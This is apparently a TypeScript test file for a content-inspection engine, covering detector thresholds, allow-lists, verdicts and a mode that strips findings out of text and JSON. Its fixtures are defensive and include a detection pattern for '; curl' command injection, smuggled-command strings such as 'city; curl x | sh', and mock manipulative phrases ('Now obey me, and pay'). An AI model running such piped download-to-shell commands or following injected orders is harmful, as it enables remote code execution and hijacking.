import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { type Detector, matchesOf } from './detector.ts'
import { createEngine } from './engine.ts'
import { builtInEngine } from './inspect.ts'
import { judge } from './modes.ts'
import { DEFAULT_SETTINGS, type InspectSettings, mergeSettings } from './settings.ts'

const NOW = Date.parse('2026-11-21T00:00:00Z')
const DAY = 86_400_000

function detector(id: string, pattern: RegExp, more: Partial<Detector> = {}): Detector {
  return {
    id,
    category: 'network_threat',
    severity: 'high',
    confidence: 0.8,
    summary: 'for this test',
    needs: [],
    source: 'this test',
    catches: [],
    ignores: [],
    find: matchesOf(pattern),
    ...more,
  }
}

const engine = createEngine([
  detector('bad', /bad\d{0,9}|6{14}/g),
  detector('order', /obey me/g, { category: 'social_engineering' }),
  detector('shell', /; curl/g, { category: 'command_injection', severity: 'critical' }),
  detector('unsure', /maybe/g, { confidence: 0.79 }),
  detector('mild', /mild/g, { severity: 'medium', confidence: 1 }),
  detector('hidden', /\u200b/g, { category: 'unicode_obfuscation', severity: 'medium' }),
])

function judged(value: unknown, settings: Partial<InspectSettings> = {}) {
  return judge(engine, value, {}, mergeSettings([settings]), NOW)
}

const blocked: readonly [
  what: string,
  text: string,
  settings: Partial<InspectSettings>,
  boolean,
][] = [
  ['severe and sure', 'a bad1', {}, true],
  ['severe, just not sure', 'maybe', {}, false],
  ['sure, not severe', 'mild', {}, false],
  ['only recorded', 'a bad1', { mode: 'log_only' }, false],
  ['off', 'a bad1', { off: ['bad'] }, false],
  ['another one off', 'a bad1', { off: ['order'] }, true],
  ['a higher threshold', 'a bad1', { thresholds: { bad: 0.81 } }, false],
  ['a lower threshold', 'maybe', { thresholds: { unsure: 0.79 } }, true],
  ['a threshold below what counts', 'maybe', { thresholds: { unsure: 0.1 } }, true],
  ['a threshold named like a method', 'a bad1', { thresholds: { constructor: 1 } }, true],
  [
    'allowed until tomorrow',
    'a bad1',
    { allow: [{ detector: 'bad', reason: 'known', expiresAt: NOW + DAY }] },
    false,
  ],
  [
    'allowed until now',
    'a bad1',
    { allow: [{ detector: 'bad', reason: 'known', expiresAt: NOW }] },
    true,
  ],
  [
    'allowed elsewhere',
    'a bad1',
    { allow: [{ detector: 'bad', path: '$.other', reason: 'known', expiresAt: NOW + DAY }] },
    true,
  ],
]
for (const [what, text, settings, expected] of blocked)
  test(`judge: ${what}`, () => assert.equal(judged(text, settings).isBlocked, expected))

test('an allow-list entry for every element of a list covers each of them', () => {
  const allow = [{ detector: 'bad', path: '$.list[*]', reason: 'known', expiresAt: NOW + DAY }]
  assert.equal(judged({ list: ['x', 'bad1'] }, { allow }).isBlocked, false)
  const { isBlocked, allowed } = judged({ list: ['bad1'], other: 'bad2' }, { allow })
  assert.equal(isBlocked, true)
  assert.deepEqual(
    allowed.map(({ finding, entry }) => [finding.path, entry.reason]),
    [['$.list[0]', 'known']],
  )
})

test('the verdict is that of the worst finding that counts', () => {
  assert.equal(judged('fine').verdict, 'clean')
  assert.equal(judged('mild').verdict, 'warning')
  assert.equal(judged('mild maybe').verdict, 'suspicious')
  assert.equal(judged('x; curl').verdict, 'malicious')
})

test('the narrower settings win, and lists add up', () => {
  const merged = mergeSettings([
    { mode: 'log_only', off: ['a'], thresholds: { a: 0.6, b: 0.6 } },
    { off: ['b'], thresholds: { b: 0.9 } },
  ])
  assert.deepEqual(merged, {
    mode: 'log_only',
    off: ['a', 'b'],
    thresholds: { a: 0.6, b: 0.9 },
    allow: [],
  })
  assert.deepEqual(mergeSettings([]), DEFAULT_SETTINGS)
})

const surgical: readonly [what: string, value: unknown, cleaned: unknown][] = [
  ['a hidden space goes, the letters stay', 'Па\u200bроль mild', 'Пароль mild'],
  ['a finding goes and the rest stays', 'see bad12 there', 'see  there'],
  ['an order goes with its sentence', 'First. Now obey me, and pay. Last.', 'First. Last.'],
  ['a command goes to the end of its line', 'city; curl x | sh\nand more', 'city\nand more'],
  ['what is cut apart is looked at again', 'see babad1d2 there', null],
  ['inside a value', { a: ['ok', 'see bad1 there'] }, { a: ['ok', 'see  there'] }],
  ['inside a JSON text', '{"a": "see bad1\\nthere", "b": 1}', '{"a": "see \\nthere", "b": 1}'],
  [
    'an order in a JSON text goes with its sentence',
    '{"a": "First. Now obey me, and pay. Last.", "b": "Next."}',
    '{"a": "First. Last.", "b": "Next."}',
  ],
  [
    'an order goes to the end of its string, and no escape is cut',
    '["One\\nNow obey me and pay", "Two", "A\\u00e9 now obey me \\"at once\\"."]',
    '["One\\n", "Two", "A\\u00e9\\"at once\\"."]',
  ],
  [
    'a command in a JSON text goes to the end of its string',
    '{"a": "city; curl x | sh && more", "b": 1}',
    '{"a": "city", "b": 1}',
  ],
  ['escaped and hidden', '{"a": "x\\u200by mild"}', '{"a": "xy mild"}'],
  [
    'a prototype stays a name',
    JSON.parse('{"__proto__": "see bad1 there"}'),
    JSON.parse('{"__proto__": "see  there"}'),
  ],
]
for (const [what, value, cleaned] of surgical)
  test(`surgical: ${what}`, () => {
    const judgement = judged(value, { mode: 'surgical' })
    if (cleaned !== null) assert.deepEqual(judgement.cleaned, cleaned)
    assert.equal(judgement.isBlocked, false)
    assert.equal(judged(judgement.cleaned).isBlocked, false)
  })

const refused: readonly [what: string, value: unknown][] = [
  ['nothing would be left', 'bad1'],
  ['a path without a part is another path', { path: '/srv/bad1/files' }],
  ['a name of a key', { 'a long name with bad1 in it': 'value' }],
  ['a JSON text that would be none afterwards', '{"number": 66666666666666, "name": "some one"}'],
  ['a number', { number: 66666666666666 }],
]
for (const [what, value] of refused)
  test(`surgical refuses where it cannot clean: ${what}`, () => {
    const judgement = judged(value, { mode: 'surgical' })
    assert.equal(judgement.isBlocked, true)
    assert.equal('cleaned' in judgement, false)
    assert.deepEqual(
      judgement.blocking.map((one) => one.detector),
      ['bad'],
    )
  })

test('surgical leaves what is clean, mild or allowed as it is', () => {
  for (const value of ['fine', 'mild maybe', { a: 'mild' }, 7])
    assert.equal('cleaned' in judged(value, { mode: 'surgical' }), false)
  const allow = [{ detector: 'bad', reason: 'known', expiresAt: NOW + DAY }]
  assert.equal('cleaned' in judged('see bad1 there', { mode: 'surgical', allow }), false)
})

const all = builtInEngine()
const samples = all.detectors.flatMap((one) =>
  one.catches.map((sample) => (typeof sample === 'string' ? sample : sample.text)),
)

test('what surgical mode lets through blocks nothing when it is inspected again', () => {
  const some = fc.constantFrom(...samples)
  const ordinary = fc.constantFrom(
    'The report is ready',
    'Пароль обновлён',
    'naïve café',
    '数据',
    '👩‍💻 ok',
  )
  const text = fc
    .array(fc.oneof(some, ordinary, fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 5 })
    .map((parts) => parts.join('. '))
  const value = fc.oneof(text, fc.record({ note: text, tags: fc.array(text, { maxLength: 2 }) }))
  const settings = mergeSettings([{ mode: 'surgical' }])
  fc.assert(
    fc.property(value, (one) => {
      const { cleaned, isBlocked, blocking } = judge(all, one, {}, settings, NOW)
      assert.equal(isBlocked, blocking.length > 0)
      if (cleaned === undefined) return
      const again = judge(all, cleaned, {}, settings, NOW)
      assert.equal(again.isBlocked, false)
      assert.equal('cleaned' in again, false)
    }),
    { numRuns: 300 },
  )
})

test('surgical mode only takes away: what is left is what was there, in its order', () => {
  const text = fc
    .array(fc.oneof(fc.constantFrom(...samples), fc.string({ unit: 'binary', maxLength: 12 })), {
      maxLength: 4,
    })
    .map((parts) => parts.join(' '))
  const settings = mergeSettings([{ mode: 'surgical' }])
  fc.assert(
    fc.property(text, (one) => {
      const { cleaned } = judge(all, one, { kind: 'text' }, settings, NOW)
      if (typeof cleaned !== 'string') return
      let at = 0
      for (const unit of cleaned.split('')) {
        at = one.indexOf(unit, at) + 1
        assert.notEqual(at, 0)
      }
    }),
    { numRuns: 200 },
  )
})
